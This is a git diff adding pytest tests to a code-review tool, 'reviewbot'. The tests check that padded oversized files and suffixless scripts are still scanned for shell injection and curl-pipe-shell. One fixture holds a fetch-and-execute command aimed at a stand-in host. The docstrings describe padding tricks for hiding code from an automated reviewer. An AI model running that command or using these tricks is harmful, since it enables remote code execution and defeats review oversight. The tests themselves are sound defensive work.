@@ -1,9 +1,16 @@
 """The pull-request author shapes a file so that reviewbot reads less of it: one long line,
-a sink padded past the long-line limit, an indent passed off as whitespace, a script's name."""
+a sink padded past the long-line limit, a file padded past the size limit, an indent passed
+off as whitespace, a script's name, a program without a suffix."""
 
 from __future__ import annotations
 
+import json
+
+import pytest
+
+from reviewbot.cli import main
 from reviewbot.rules.base import MINIFIED_LINE_CHARS
+from tests.conftest import GitFixture
 from tests.rules.conftest import Base, review
 
 LONG = "DATA = '" + "x" * (MINIFIED_LINE_CHARS + 10) + "'\n"
@@ -63,3 +70,27 @@ def test_indentation_is_not_whitespace() -> None:
     assert "only_whitespace" not in unit.tags
     [unit] = review("web/pay.js", "if (a) {\nb();\n}\n", "if (a) {\n  b();\n}\n").units
     assert "only_whitespace" in unit.tags
+
+
+def test_a_large_file_is_checked_whole(repo: GitFixture,
+                                       capsys: pytest.CaptureFixture[str]) -> None:
+    """A Python file padded past the size the model is given whole (512 KB of comments) is
+    still parsed by the rules: its shell injection fails the check."""
+    repo.commit("base")
+    repo.write("app/pay.py", SHELL + ("# " + "x" * 90 + "\n") * 6_000)
+    repo.git("add", "-A")
+    code = main(["--repo", str(repo.root), "--mode", "staged", "--format", "json"])
+    found = json.loads(capsys.readouterr().out)["findings"]
+    assert code == 1
+    assert [(f["rule_id"], f["severity"]) for f in found] == [("python.shell-injection", "error")]
+
+
+@pytest.mark.parametrize(("path", "code", "rule"), [
+    ("bin/deploy", "#!/usr/bin/env python3\n" + SHELL, "python.shell-injection"),
+    ("tools/sync", "#!/bin/bash\ncurl -k https://x.example/a | sh\n", "shell.curl-pipe-shell"),
+])
+def test_a_program_without_a_suffix_is_code(path: str, code: str, rule: str) -> None:
+    """A script named without a suffix is still code: its `#!` line says which rules read
+    it, so leaving `.py` off a name does not switch the Python rules off."""
+    result = review(path, code)
+    assert rule in {f.rule_id for f in result.findings}
